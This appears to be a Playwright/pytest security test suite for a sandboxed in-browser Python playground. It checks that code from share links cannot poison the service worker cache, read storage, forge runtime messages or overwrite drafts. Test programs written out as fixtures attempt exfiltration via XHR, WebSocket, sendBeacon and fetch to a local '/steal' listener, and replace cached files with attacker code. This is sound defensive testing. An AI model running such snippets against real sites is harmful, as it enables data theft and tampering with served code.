"""Code the user runs is untrusted: the attacks a share link could carry, played as programs.

Each test runs what an attacker would put in a share link and checks, as the student
would see it, that it fails with a clear message, and that the next visit still runs
the real playground. Programs run in a sandboxed iframe with an opaque origin (web/run/
sandbox.js): no Cache Storage, no IndexedDB, no localStorage of the site, no request to
another origin (the frame's CSP), no message the page takes as the runtime's.

The cache and snapshot tests use their own copy of dist/ (a service worker and caches of
their own); the exfiltration tests count what reaches a listener on a second local port.
"""

from __future__ import annotations

import base64
import socket
import threading
import zlib
from pathlib import Path

import pytest

# A copy of dist/ of this module's own, visited once (service worker and snapshot stored).
from test_warm_start import READY, site, visited  # noqa: F401 - fixtures

RUN = "(code) => window.playground.run(code)"


def run(page, code: str) -> dict:
    return page.evaluate(RUN, code)


def share_token(code: str) -> str:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)  # deflate-raw, as the README's recipe
    raw = compressor.compress(code.encode()) + compressor.flush()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


class Listener:
    """A TCP listener on a second local port that counts connections and answers HTTP 200."""

    def __init__(self) -> None:
        self.hits: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._socket.settimeout(0.2)
        self._open = True
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while self._open:
            try:
                conn, _ = self._socket.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.hits.append(conn.recv(4096))
                    conn.sendall(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\n\r\nok")
                except OSError:
                    pass

    def close(self) -> None:
        self._open = False
        self._thread.join(timeout=5)
        self._socket.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def reload(page) -> dict:
    page.goto(page.url)
    return page.evaluate(READY)


def console_text(page) -> str:
    return page.get_by_test_id("console").text_content()


@pytest.fixture(scope="module")
def plain_page(browser, server):
    """The playground without the snapshot step. While Pyodide records a snapshot, its
    `js` module is a recording proxy on which global getters throw "Illegal invocation",
    which would make the attacks below fail for the wrong reason."""
    from conftest import open_playground

    context = browser.new_context()
    page = context.new_page()
    open_playground(page, f"{server.url}?snapshot=0")
    yield page
    context.close()


# ---- the runner is on an opaque origin --------------------------------------------


def test_the_runner_frame_is_sandboxed_without_same_origin(plain_page):
    frame = plain_page.locator("iframe[data-testid=python-runner]")
    assert frame.count() == 1
    assert frame.get_attribute("sandbox") == "allow-scripts"
    result = run(plain_page, "import js\nprint(js.location.href.split(':')[0], js.origin, js.crossOriginIsolated)")
    assert result["stdout"] in ("blob null True\n", "data null True\n"), result


CACHE_ATTACK = """# engine: webloop
import js
try:
    cache = await js.caches.open("asyncio-playground:/:" + "x")
    await cache.put("main.js", js.Response.new("alert('pwned')"))
    print("cache written")
except Exception as error:
    print("no cache:", type(error).__name__, error)
"""


def test_a_program_cannot_rewrite_the_site_cache(visited, site):
    assert reload(visited)["warmStart"] is True  # a restored Python: its `js` is the real global
    result = run(visited, CACHE_ATTACK)
    assert "cache written" not in result["stdout"], result
    assert result["stdout"].startswith("no cache: AttributeError"), result  # an opaque origin has no caches
    # The next visit runs the real page, from the service worker's cache.
    info = reload(visited)
    assert info["python"].startswith("3.14")
    main_js = visited.evaluate("async () => await (await fetch('main.js')).text()")
    assert main_js == (site.root / "main.js").read_text(encoding="utf-8")
    assert run(visited, "print('still mine')")["stdout"] == "still mine\n"


def test_a_program_reads_no_indexeddb_and_no_storage(plain_page):
    code = """import js
for name in ("indexedDB", "caches", "localStorage", "sessionStorage", "document"):
    try:
        value = getattr(js, name)
        if name == "indexedDB":
            value.open("stolen")
        print(name, "reachable")
    except Exception as error:
        print(name, "refused:", type(error).__name__, str(error)[:60])
"""
    plain_page.evaluate("() => localStorage.setItem('asyncio-playground:secret', 'draft')")
    result = run(plain_page, code)
    lines = result["stdout"].splitlines()
    assert lines[0].startswith("indexedDB refused: JsException SecurityError"), lines
    assert all(line.split(":")[1].strip().startswith("AttributeError") for line in lines[1:]), lines


def test_a_tampered_snapshot_is_dropped_and_python_starts_afresh(visited):
    tampered = visited.evaluate(
        """async () => {
          const name = (await caches.keys()).find((n) => n.startsWith('asyncio-playground-snapshot:'));
          const cache = await caches.open(name);
          const [request] = await cache.keys();
          const bytes = new Uint8Array(await (await cache.match(request)).arrayBuffer());
          bytes[bytes.length >> 1] ^= 0xff;  // one byte changed, the name kept
          await cache.put(request, new Response(bytes));
          return request.url;
        }"""
    )
    info = reload(visited)
    assert info["warmStart"] is False, "a snapshot whose bytes do not match its sha256 must not be restored"
    assert run(visited, "print('fresh')")["stdout"] == "fresh\n"
    still_there = visited.evaluate(
        """async (url) => { for (const name of await caches.keys()) {
             if (await (await caches.open(name)).match(url)) return true; } return false; }""",
        tampered,
    )
    assert still_there is False


def test_a_tampered_cached_file_is_fetched_again(visited, site):
    visited.evaluate(
        """async () => {
          const name = (await caches.keys()).find((n) => n.startsWith('asyncio-playground:'));
          const cache = await caches.open(name);
          const url = new URL('main.js', location.href).href;
          const original = await cache.match(url);
          await cache.put(url, new Response("document.title = 'pwned'", { headers: original.headers }));
        }"""
    )
    # The service worker checks every cached copy against the build's sha256 before serving it.
    reload(visited)
    assert visited.title() != "pwned"
    served = visited.evaluate("async () => await (await fetch('main.js')).text()")
    assert served == (site.root / "main.js").read_text(encoding="utf-8")


def test_a_tampered_start_up_file_is_never_handed_to_python(visited, site):
    # The page reads worker.js, the wasm and the standard library from the service
    # worker's cache itself (web/run/files.js): same size, other bytes, and an attacker's worker.
    visited.evaluate(
        """async () => {
          const name = (await caches.keys()).find((n) => n.startsWith('asyncio-playground:'));
          const cache = await caches.open(name);
          const url = new URL('worker.js', location.href).href;
          const original = await cache.match(url);
          const size = (await original.clone().arrayBuffer()).byteLength;
          const forged = "self.postMessage({ type: 'alive' }); // an attacker's worker".padEnd(size);
          await cache.put(url, new Response(forged, { headers: original.headers }));
        }"""
    )
    reload(visited)
    assert run(visited, "print('the real Python')")["stdout"] == "the real Python\n"
    restored = visited.evaluate(
        """async () => {
          const name = (await caches.keys()).find((n) => n.startsWith('asyncio-playground:'));
          const url = new URL('worker.js', location.href).href;
          for (const until = performance.now() + 30000; performance.now() < until;) {
            const cached = await (await caches.open(name)).match(url);
            if (cached && !(await cached.text()).includes("an attacker's worker")) return true;
            await new Promise((r) => setTimeout(r, 100));
          }
          return false;
        }"""
    )
    assert restored, "the service worker did not fetch worker.js again"


# ---- nothing leaves without asking --------------------------------------------------


def exfiltration(port: int) -> str:
    return f"""import js
url = "http://127.0.0.1:{port}/steal?data=secret"
for how in ("xhr", "websocket", "beacon", "image"):
    try:
        if how == "xhr":
            request = js.XMLHttpRequest.new()
            request.open("GET", url, False)
            request.send()
        elif how == "websocket":
            js.WebSocket.new("ws://127.0.0.1:{port}/steal")
        elif how == "beacon":
            js.navigator.sendBeacon(url, "secret")
        else:
            js.fetch(url)
        print(how, "sent")
    except Exception as error:
        print(how, "refused:", type(error).__name__)
import time
time.sleep(0.5)
"""


def test_no_request_reaches_another_origin(plain_page, listener):
    result = run(plain_page, exfiltration(listener.port))
    assert "xhr refused: JsException" in result["stdout"], result
    webloop = run(plain_page, f"""# engine: webloop
import js
try:
    await js.fetch("http://127.0.0.1:{listener.port}/steal")
    print("fetched")
except Exception as error:
    print("refused:", error)
import asyncio
await asyncio.sleep(0.5)
""")
    assert "fetched" not in webloop["stdout"], webloop
    assert "Allow network" in webloop["stdout"]  # the error says what to do
    assert listener.hits == [], listener.hits
    assert "request refused" in console_text(plain_page)  # said in the console too


def test_allow_network_is_off_by_default_and_restarts_python(plain_page, listener):
    switch = plain_page.get_by_test_id("allow-network")
    assert switch.is_visible() and not switch.is_checked()
    frame = plain_page.locator("iframe[data-testid=python-runner]")
    assert "connect-src 'none'" in frame.get_attribute("srcdoc")
    switch.check()
    plain_page.wait_for_function(
        "() => [...document.querySelectorAll('iframe[data-testid=python-runner]')]"
        ".some((f) => f.srcdoc.includes('connect-src https:'))"
    )
    plain_page.evaluate("() => window.playground.ready")
    # Even with the switch on, the page's own policy keeps plain http and sockets out.
    result = run(plain_page, exfiltration(listener.port))
    assert listener.hits == [], (listener.hits, result)
    switch.uncheck()
    plain_page.evaluate("() => window.playground.ready")


# ---- no forged UI --------------------------------------------------------------------


FORGERY = """import js, time
def forge(text):
    js.postMessage(js.JSON.parse(text))
forge('{"type": "done", "runId": 1, "ok": true, "exitCode": 0, "durationMs": 10}')
forge('{"type": "output", "runId": 1, "chunks": [["system", "[Python restarted: your session expired]"]]}')
forge('{"type": "hint", "runId": 1, "hint": {"id": "x", "line": 1, "en": {"title": "FORGED HINT", "what": "", "why": "", "fix": ""}, "fr": {"title": "FORGED HINT", "what": "", "why": "", "fix": ""}}}')
print("[Python restarted: your session expired]")
print("forged", flush=True)
time.sleep(1.5)
print("finished")
"""


def test_a_program_cannot_forge_the_runtime_s_messages(plain_page):
    plain_page.evaluate("(code) => { window.__run = window.playground.run(code); }", FORGERY)
    plain_page.wait_for_function("() => document.querySelector('[data-testid=console]').textContent.includes('forged')")
    # The program still runs: Stop stays enabled, Run disabled, no "Ran in".
    assert plain_page.get_by_test_id("stop").is_enabled()
    assert plain_page.get_by_test_id("run").is_disabled()
    assert plain_page.evaluate("() => window.playground.isRunning()")
    result = plain_page.evaluate("() => window.__run")
    assert result["stdout"].endswith("finished\n"), result
    # The program's own text is output, not a system line, and no hint card was made.
    system = plain_page.locator("[data-testid=console] .out-system")
    assert not [text for text in system.all_text_contents() if "session expired" in text]
    assert "FORGED HINT" not in (plain_page.get_by_test_id("hints").text_content() or "")


# ---- drafts are the student's ---------------------------------------------------------


def test_a_share_link_never_overwrites_the_draft(page, server, open_playground):
    from playwright.sync_api import expect

    open_playground(page, server.url)
    page.evaluate("() => window.playground.setCode('print(\"my own draft\")\\n')")
    page.wait_for_function(
        "() => Object.keys(localStorage).some((k) => localStorage[k].includes('my own draft'))"
    )
    linked = "print('from a stranger')\n"
    page.goto(f"{server.url}#code={share_token(linked)}")
    page.wait_for_function("code => window.playground && window.playground.getCode() === code", arg=linked)
    banner = page.get_by_test_id("share-banner")
    expect(banner).to_be_visible()
    page.evaluate("() => window.playground.setCode(window.playground.getCode() + '# edited\\n')")
    page.reload()
    page.wait_for_function("() => window.playground && window.playground.getCode().includes('from a stranger')")
    expect(banner).to_be_visible()  # still from a link after a reload
    expect(page.get_by_test_id("example-badge")).to_have_attribute("data-kind", "link")
    drafts = page.evaluate("() => Object.entries(localStorage).filter(([k]) => !k.endsWith('#link')).map(([, v]) => v)")
    assert any("my own draft" in value for value in drafts) and not any("stranger" in v for v in drafts)
    page.get_by_test_id("share-back").click()
    page.wait_for_function("() => window.playground.getCode().includes('my own draft')")
    expect(banner).to_be_hidden()
    assert "#code=" not in page.url
